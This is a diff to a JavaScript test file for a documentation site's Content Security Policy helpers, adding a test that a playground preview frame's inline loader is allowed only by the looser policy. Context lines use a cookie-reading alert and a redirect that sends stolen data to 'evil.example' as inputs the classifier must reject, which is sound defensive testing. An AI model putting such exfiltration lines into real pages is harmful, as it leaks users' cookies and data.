@@ -4,11 +4,16 @@
  */
 import test from 'node:test';
 import assert from 'node:assert/strict';
+import fs from 'node:fs';
+import os from 'node:os';
+import path from 'node:path';
 import {
   algoliaHosts,
   classifyInlineScript,
   contentSecurityPolicy,
+  headerRules,
   headersFor,
+  inlineScriptTexts,
   parseHeadersFile,
   policiesFromHeadersFile,
   renderHeadersFile,
@@ -30,6 +35,26 @@ test('only Docusaurus\u2019 own inline scripts are recognised', () => {
   );
   assert.equal(classifyInlineScript('alert(document.cookie)'), null);
   assert.equal(classifyInlineScript("window.location.href = 'https://evil.example/' + steal()"), null);
+});
+
+const frameHtml = fs.readFileSync(path.join(import.meta.dirname, '../../static/playground/preview-frame/index.html'), 'utf8');
+
+test("the preview frame's loader is allowed by the playground policy only", () => {
+  const [loader, ...others] = inlineScriptTexts(frameHtml);
+  assert.equal(others.length, 0);
+  assert.match(classifyInlineScript(loader) ?? '', /preview frame/);
+  const buildDir = fs.mkdtempSync(path.join(os.tmpdir(), 'headers-'));
+  try {
+    fs.mkdirSync(path.join(buildDir, 'playground/preview-frame'), { recursive: true });
+    fs.writeFileSync(path.join(buildDir, 'playground/preview-frame/index.html'), frameHtml);
+    fs.writeFileSync(path.join(buildDir, 'index.html'), `<html><head><script>${colourMode}</script></head></html>`);
+    const { strict, loose } = headerRules({ buildDir, topLevel: [{ name: 'index.html', directory: false }], env: {} });
+    assert.ok(loose.includes(sha256(loader)));
+    assert.ok(!strict.includes(sha256(loader)));
+    assert.ok(strict.includes(sha256(colourMode)) && loose.includes(sha256(colourMode)));
+  } finally {
+    fs.rmSync(buildDir, { recursive: true, force: true });
+  }
 });
 
 test('sha256 gives CSP hash sources', () => {
